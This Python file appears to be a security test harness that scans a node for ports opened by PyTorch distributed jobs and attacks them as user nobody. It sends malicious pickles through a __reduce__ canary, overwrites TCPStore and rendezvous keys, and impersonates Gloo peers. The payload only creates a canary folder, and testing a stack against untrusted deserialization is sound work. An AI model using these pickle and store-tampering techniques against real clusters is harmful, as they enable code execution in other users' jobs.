"""Another user of the node, who connects to every port that processes listen on and writes what might run there.

As a command, as root: `python tests/port_attacker.py NAME=VALUE FOLDER`, until stdin is closed. It attacks the
processes that have the variable in their environment. Code of the attacker that runs anywhere makes a folder below
FOLDER. It prints the ports that it attacked and the connections that it made, as JSON.
"""

import base64
import contextlib
import json
import os
import pickle
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

NOBODY = 65534
LISTENING = "0A"  # in /proc/net/tcp
POLL_S = 0.05
PAUSE_S = 0.01  # between two connections to a port
ANSWER_S = 0.5  # a store answers at once
# commands of torch's TCPStore (torch/csrc/distributed/c10d/TCPStoreBackend.hpp)
VALIDATE, SET, COMPARE_SET, ADD, LIST_KEYS = b"\0", b"\1", b"\2", b"\4", b"\x11"
MAGIC = struct.pack("<I", 0x3C85F7CE)
NUM_GENTLE_ROUNDS = 5  # before values are changed of which the attacker knows no use
NUM_SEQUENCE_NUMBERS = 16  # Gloo numbers the connections that it expects, from 0


class Canary:
    """An object whose unpickling makes a folder."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Callable[..., None], tuple[str, int, bool]]:
        return os.makedirs, (str(self.folder), 0o777, True)

    def pickled(self, protocol: int = 4) -> bytes:
        return pickle.dumps(self, protocol)


class Listener(NamedTuple):
    """A TCP socket on which a process listens."""

    process: str
    family: int
    address: str
    port: int


def find_listeners(mark: str) -> Iterator[Listener]:
    """Yield every TCP socket on which a process with this variable listens."""
    names: dict[str, str] = {}
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdecimal() and mark.encode() in (entry / "environ").read_bytes().split(b"\0"):
                name = (entry / "comm").read_text().strip()
                names |= {os.readlink(path): name for path in (entry / "fd").iterdir()}
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENING and (process := names.get(f"socket:[{fields[9]}]")):
                address, port = fields[1].split(":")
                words = struct.unpack(f">{len(address) // 8}I", bytes.fromhex(address))
                packed = struct.pack(f"={len(words)}I", *words)
                yield Listener(process, family, socket.inet_ntop(family, packed), int(port, 16))


def text(raw: bytes) -> bytes:
    """Return the bytes as TCPStore sends them."""
    return struct.pack("<Q", len(raw)) + raw


def list_keys(connection: socket.socket) -> list[bytes]:
    """Return the keys of a store; those that any store of torchrun has if it does not tell."""
    connection.sendall(VALIDATE + MAGIC + LIST_KEYS)
    raw = b""
    with contextlib.suppress(OSError):
        while chunk := connection.recv(1 << 16):
            raw += chunk
    keys = []
    with contextlib.suppress(struct.error):
        (count,) = struct.unpack_from("<Q", raw)
        offset = 8
        for _ in range(min(count, 10_000)):
            (size,) = struct.unpack_from("<Q", raw, offset)
            keys.append(raw[offset + 8 : offset + 8 + size])
            offset += 8 + size
    return keys or [b"/torch.rendezvous.none", b"/default_pg/0//cpu//0//0", b"init/"]


class Attacker:
    """Attacks ports, each in a thread of its own."""

    def __init__(self, folder: Path) -> None:
        self.num_connections: dict[str, int] = {}
        self._pickles = [Canary(folder / "canary").pickled(protocol) for protocol in (0, 2, 4)]

    def attack(self, process: str, family: int, address: str, port: int) -> None:
        """Connect again and again, and write another of the attacks each time."""
        name = f"{process} {address}:{port}"
        self.num_connections[name] = 0
        for number in range(1_000_000):
            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(ANSWER_S)
                connection.connect((address, port))
                self.num_connections[name] += 1
                attacks = (self._write_pickle, self._change_rendezvous, self._write_noise, self._be_a_rank)
                attacks[number % len(attacks)](connection, number // len(attacks))
            time.sleep(PAUSE_S)

    def _write_pickle(self, connection: socket.socket, number: int) -> None:
        raw = self._pickles[number % len(self._pickles)]
        connection.sendall(raw if number % 2 else text(raw))

    def _change_rendezvous(self, connection: socket.socket, number: int) -> None:
        """Replace the values of a store by pickles: those of a rendezvous, and later everything in it."""
        for key in list_keys(connection):
            raw = base64.b64encode(self._pickles[2]) if b"rendezvous" in key else self._pickles[2]
            if b"rendezvous" in key or number > NUM_GENTLE_ROUNDS:
                connection.sendall(SET + text(key) + text(raw))
                connection.sendall(COMPARE_SET + text(key) + text(raw) + text(raw))
            if number > 2 * NUM_GENTLE_ROUNDS:
                connection.sendall(ADD + text(key) + struct.pack("<q", 1))

    def _write_noise(self, connection: socket.socket, number: int) -> None:
        connection.sendall(random.Random(number).randbytes(1 << (number % 17)))

    def _be_a_rank(self, connection: socket.socket, number: int) -> None:
        """Claim to be the peer whom Gloo expects, and send it a pickle."""
        connection.sendall(struct.pack("<Q", number % NUM_SEQUENCE_NUMBERS))
        raw = self._pickles[0]
        connection.sendall(struct.pack("<QIIQQQ", 40 + len(raw), 0, number, 0, len(raw), 0) + raw)


def run_attacker(folder: Path) -> None:
    """Attack every port that a line of stdin names, as another user, until stdin ends."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    attacker = Attacker(folder)
    for line in sys.stdin:
        threading.Thread(target=attacker.attack, args=json.loads(line), daemon=True).start()
    print(json.dumps(attacker.num_connections), flush=True)
    os._exit(0)


def main() -> None:
    """Find ports and name them to the attacker, until stdin ends."""
    mark, folder = sys.argv[1:]
    if mark == "--as-nobody":
        run_attacker(Path(folder))
    command = [sys.executable, __file__, "--as-nobody", folder]
    with subprocess.Popen(command, stdin=subprocess.PIPE, text=True) as attacker:
        assert attacker.stdin
        known: set[tuple[int, str, int]] = set()
        while not select.select([sys.stdin], [], [], POLL_S)[0]:
            for found in find_listeners(mark):
                if found[1:] not in known:  # a rank and its launcher may share a socket
                    known.add(found[1:])
                    attacker.stdin.write(json.dumps(found) + "\n")
                    attacker.stdin.flush()


if __name__ == "__main__":
    main()
